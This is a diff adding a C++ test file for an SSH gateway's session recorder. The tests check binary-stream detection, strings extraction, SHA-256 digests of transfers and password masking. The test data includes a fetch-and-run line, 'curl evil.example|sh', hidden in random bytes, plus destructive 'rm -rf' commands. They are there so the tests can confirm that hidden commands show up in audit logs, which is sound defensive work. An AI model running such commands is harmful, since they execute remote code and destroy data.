@@ -1,0 +1,288 @@
+#include "asciicast/stream_summary.h"
+
+#include <doctest/doctest.h>
+
+#include <nlohmann/json.hpp>
+#include <random>
+
+#include "asciicast/channel_recording.h"
+#include "asciicast/session_log.h"
+#include "asciicast/terminal_tracker.h"
+#include "common/crypto.h"
+#include "common/encoding.h"
+#include "tests/asciicast/memory_sink.h"
+
+using namespace castgate;
+using namespace castgate::asciicast;
+using nlohmann::json;
+using namespace std::literals;
+
+namespace {
+
+using castgate::asciicast::testing::MemorySink;
+
+std::string random_bytes_seeded(size_t n, unsigned seed) {
+  std::mt19937 gen(seed);
+  std::string s(n, '\0');
+  for (auto& c : s) c = static_cast<char>(gen() & 0xff);
+  return s;
+}
+
+std::string hex_sha256(std::string_view data) {
+  auto d = sha256(data);
+  return hex_encode(std::string_view(reinterpret_cast<const char*>(d.data()), d.size()));
+}
+
+// One exec channel without a pty recorded into memory; events() parses what it wrote.
+struct Recorded {
+  MemorySink sink;
+  ManualClock clock;
+  SessionLogOptions opts;
+  std::unique_ptr<SessionLog> log;
+  std::unique_ptr<ChannelRecording> rec;
+
+  explicit Recorded(bool summarize, std::string command = "cat backup.tar.gz") {
+    opts.instance = "gw-test";
+    opts.max_line = 4096;
+    log = std::make_unique<SessionLog>(opts, "sess1", Endpoint{"192.0.2.7", 50000}, sink,
+                                       std::make_shared<Backlog>(1 << 26), clock);
+    Identity id;
+    id.subject = "alice";
+    id.issuer = "castgate:identities";
+    id.auth_method = "publickey";
+    log->set_identity(id);
+    log->set_target("db1.int", Endpoint{"10.0.0.5", 22}, "ubuntu");
+    rec = std::make_unique<ChannelRecording>(*log, 0, clock, nullptr);
+    ChannelHeader h;
+    h.kind = "exec";
+    h.command = std::move(command);
+    h.summarize_binary = summarize;
+    rec->start(h);
+  }
+
+  std::vector<json> events(std::string_view action) const {
+    std::vector<json> out;
+    for (const auto& line : sink.lines) {
+      json j = json::parse(line);
+      if (j["event"]["action"] == action) out.push_back(std::move(j));
+    }
+    return out;
+  }
+
+  std::string recorded(std::string_view action) const {
+    std::string text;
+    for (const auto& e : events(action)) text += e["asciicast"]["event"][2].get<std::string>();
+    return text;
+  }
+
+  size_t bytes() const {
+    size_t n = 0;
+    for (const auto& l : sink.lines) n += l.size() + 1;
+    return n;
+  }
+};
+
+}  // namespace
+
+TEST_CASE("text is text, binary data is not") {
+  CHECK_FALSE(is_binary_chunk(""));
+  CHECK_FALSE(is_binary_chunk("total 0\ndrwxr-xr-x 2 alice alice 4096 Mar  3 10:00 .\n"));
+  CHECK_FALSE(is_binary_chunk("\x1b[01;34mdir\x1b[0m\tfile\r\n\a\b\f"));
+  CHECK_FALSE(is_binary_chunk("Grüße, 日本語, emoji 😀 and a cut character \xe2\x82"));
+  // Text interleaved with NULs (UTF-16LE) stays text: a shell ignores NULs in a script.
+  CHECK_FALSE(is_binary_chunk("r\0m\0 \0-\0r\0f\0 \0/\0t\0m\0p\0"sv));
+  // A stray control byte now and then is still text.
+  std::string mostly(200, 'a');
+  mostly[100] = '\x01';
+  CHECK_FALSE(is_binary_chunk(mostly));
+
+  CHECK(is_binary_chunk(std::string(4096, '\0')));
+  CHECK(is_binary_chunk("\0\0"sv));
+  CHECK(is_binary_chunk(random_bytes_seeded(4096, 1)));
+  CHECK(is_binary_chunk(random_bytes_seeded(64, 2)));
+  std::string sparse(4096, '\0');
+  sparse.replace(100, 30, "some text in a sparse file....");
+  CHECK(is_binary_chunk(sparse));
+  CHECK(is_binary_chunk("\xff\xfe\xfd\xfc invalid UTF-8 \xc0\x80\xed\xa0\x80"));
+  std::string controls(64, 'x');
+  for (size_t i = 0; i < controls.size(); i += 8) controls[i] = '\x02';
+  CHECK(is_binary_chunk(controls));
+}
+
+TEST_CASE("strings of a binary run: long runs, NULs skipped, short lines kept") {
+  StringsExtractor s;
+  s.feed(
+      "\x01\x02"
+      "abc"
+      "\x03"
+      "a longer string here"
+      "\xff"sv);
+  s.feed("r\0m\0\0 -rf /srv/data\x01"sv);
+  s.feed("\x05pwd\n\x06id\n");
+  s.feed("split across");
+  s.feed(" chunks\x01");
+  s.feed(std::string(3000, 'y'));
+  s.flush();
+  std::string found = s.take();
+  CHECK(found.find("a longer string here\n") != std::string::npos);
+  CHECK(found.find("abc\n") == std::string::npos);
+  CHECK(found.find("rm -rf /srv/data\n") != std::string::npos);
+  CHECK(found.find("pwd\n") != std::string::npos);
+  CHECK(found.find("id\n") == std::string::npos);
+  CHECK(found.find("split across chunks\n") != std::string::npos);
+  CHECK(found.find(std::string(StringsExtractor::kMaxString, 'y') + "\n") != std::string::npos);
+  CHECK(s.pending() == 0);
+  // Random bytes give little, zeros nothing.
+  s.feed(random_bytes_seeded(1 << 20, 3));
+  s.flush();
+  CHECK(s.take().size() < (1 << 20) / 250);
+  s.feed(std::string(1 << 16, '\0'));
+  s.flush();
+  CHECK(s.take().empty());
+}
+
+TEST_CASE("a binary download is a stream summary with the digest of its bytes") {
+  Recorded r(true);
+  std::string file = random_bytes_seeded(3 << 20, 4);
+  for (size_t at = 0; at < file.size(); at += 32768)
+    r.rec->from_target(std::string_view(file).substr(at, 32768), false);
+  r.rec->from_target("done\n", false);
+  r.rec->finish();
+
+  auto starts = r.events("stream.start");
+  auto ends = r.events("stream.end");
+  REQUIRE(starts.size() == 1);
+  REQUIRE(ends.size() == 1);
+  CHECK(starts[0]["castgate"]["stream"]["direction"] == "output");
+  CHECK(starts[0]["castgate"]["stream"]["offset"] == 0);
+  const auto& s = ends[0]["castgate"]["stream"];
+  CHECK(s["bytes"] == file.size());
+  CHECK(s["sha256"] == hex_sha256(file));
+  CHECK(ends[0]["file"]["hash"]["sha256"] == hex_sha256(file));
+  CHECK(ends[0]["file"]["size"] == file.size());
+  // The text after the run is recorded in full; the run is not, beyond its strings.
+  CHECK(r.recorded("asciicast.output") == "done\n");
+  CHECK(r.bytes() < file.size() / 100);  // the record of a binary transfer: under 1%
+  auto markers = r.recorded("asciicast.marker");
+  CHECK(markers.find("binary output: 3.0 MiB, sha256 " + hex_sha256(file)) != std::string::npos);
+  auto header = r.events("asciicast.header");
+  REQUIRE(header.size() == 1);
+  CHECK(header[0]["castgate"]["binary_streams"] == "summary");
+}
+
+TEST_CASE("text turning binary and back: each run summarised, text in full, offsets exact") {
+  Recorded r(true, "sh -c 'echo start; cat blob; echo end'");
+  std::string zeros(100000, '\0');
+  std::string blob = random_bytes_seeded(50000, 5);
+  r.rec->from_target("start\n", false);
+  r.rec->from_target(zeros, false);
+  r.clock.advance(std::chrono::seconds(11));
+  r.rec->from_target(blob, false);  // the same run: binary follows binary
+  r.rec->from_target("middle\n", false);
+  r.rec->from_target(blob, false);
+  r.rec->from_target("end\n", false);
+  r.rec->finish();
+  auto ends = r.events("stream.end");
+  REQUIRE(ends.size() == 2);
+  CHECK(ends[0]["castgate"]["stream"]["offset"] == 6);
+  CHECK(ends[0]["castgate"]["stream"]["bytes"] == zeros.size() + blob.size());
+  CHECK(ends[0]["castgate"]["stream"]["sha256"] == hex_sha256(zeros + blob));
+  CHECK(ends[0]["castgate"]["stream"]["seconds"].get<double>() >= 11.0);
+  CHECK(ends[1]["castgate"]["stream"]["offset"] == 6 + zeros.size() + blob.size() + 7);
+  CHECK(ends[1]["castgate"]["stream"]["sha256"] == hex_sha256(blob));
+  CHECK(r.recorded("asciicast.output") == "start\nmiddle\nend\n");
+  // Ten seconds into the first run, a progress event says how far it is.
+  auto progress = r.events("stream.progress");
+  REQUIRE_FALSE(progress.empty());
+  CHECK(progress[0]["castgate"]["stream"]["bytes"] == zeros.size() + blob.size());
+}
+
+TEST_CASE("a command hidden among binary input to a shell shows in the run's strings") {
+  Recorded r(true, "bash");
+  std::string input = random_bytes_seeded(8192, 6);
+  auto hidden = "\ncurl evil.example|sh\nwho\n"sv;
+  input.replace(4000, hidden.size(), hidden);
+  r.rec->from_user(input);
+  r.rec->finish();
+  std::string strings;
+  for (const auto& e : r.events("stream.end"))
+    strings += e["castgate"]["stream"].value("strings", std::string());
+  CHECK(strings.find("curl evil.example|sh\n") != std::string::npos);
+  CHECK(strings.find("who\n") != std::string::npos);
+  CHECK(r.events("stream.end")[0]["castgate"]["stream"]["direction"] == "input");
+}
+
+TEST_CASE("policy full, a terminal, stderr and SCP keep today's recording") {
+  std::string blob = random_bytes_seeded(20000, 7);
+  {
+    Recorded r(false);
+    r.rec->from_target(blob, false);
+    r.rec->finish();
+    CHECK(r.events("stream.start").empty());
+    CHECK(r.recorded("asciicast.output").size() >= blob.size());
+    CHECK_FALSE(r.events("asciicast.header")[0]["castgate"].contains("binary_streams"));
+  }
+  {
+    Recorded r(true);
+    r.rec->from_target(blob, true);  // stderr
+    r.rec->finish();
+    CHECK(r.events("stream.start").empty());
+    CHECK(r.recorded("asciicast.stderr").size() >= blob.size());
+  }
+  {
+    MemorySink sink;
+    ManualClock clock;
+    SessionLogOptions opts;
+    SessionLog log(opts, "s", Endpoint{"192.0.2.7", 1}, sink, std::make_shared<Backlog>(1 << 26),
+                   clock);
+    ChannelRecording rec(log, 0, clock, nullptr);
+    ChannelHeader h;
+    h.kind = "exec";
+    h.command = "cat blob";
+    h.pty = true;
+    h.summarize_binary = true;
+    rec.start(h);
+    rec.from_target(blob, false);
+    rec.finish();
+    for (const auto& l : sink.lines) CHECK(l.find("\"stream.") == std::string::npos);
+  }
+}
+
+TEST_CASE("many small switches between text and binary stay bounded") {
+  // A user alternating tiny text and binary chunks gets at most three lines per switch: the
+  // record grows with the chunks, not beyond them.
+  Recorded r(true, "cat");
+  std::string blob = random_bytes_seeded(64, 8);
+  for (int i = 0; i < 200; ++i) {
+    r.rec->from_target("t\n", false);
+    r.rec->from_target(blob, false);
+  }
+  r.rec->finish();
+  CHECK(r.events("stream.end").size() == 200);
+  CHECK(r.sink.lines.size() < 200 * 4 + 10);
+}
+
+TEST_CASE("a password sent ahead of binary input is masked in the run's strings") {
+  // (echo "$PW"; cat backup.tar) | ssh host 'sudo -S tar x -C /'
+  Recorded r(true, "sudo -S tar x -C /");
+  // (The masker holds at most SecretAnswerMasker::kMaxHeld bytes of input for a prompt to come,
+  // with or without summaries.)
+  std::string input = "Sup3r-Secret-Passw0rd\n" + random_bytes_seeded(8192, 9);
+  r.rec->from_user(input);
+  r.rec->from_target("[sudo] password for alice: ", true);
+  r.rec->from_user(random_bytes_seeded(16384, 10));
+  r.rec->finish();
+  std::string all;
+  for (const auto& l : r.sink.lines) all += l;
+  CHECK(all.find("Sup3r-Secret") == std::string::npos);
+  std::string strings;
+  for (const auto& e : r.events("stream.progress"))
+    strings += e["castgate"]["stream"].value("strings", std::string());
+  for (const auto& e : r.events("stream.end"))
+    strings += e["castgate"]["stream"].value("strings", std::string());
+  CHECK(strings.find(TerminalTracker::kMask) != std::string::npos);
+  // The digest still covers exactly the bytes sent.
+  auto ends = r.events("stream.end");
+  REQUIRE(ends.size() == 1);
+  CHECK(ends[0]["castgate"]["stream"]["bytes"] == input.size() + 16384);
+}
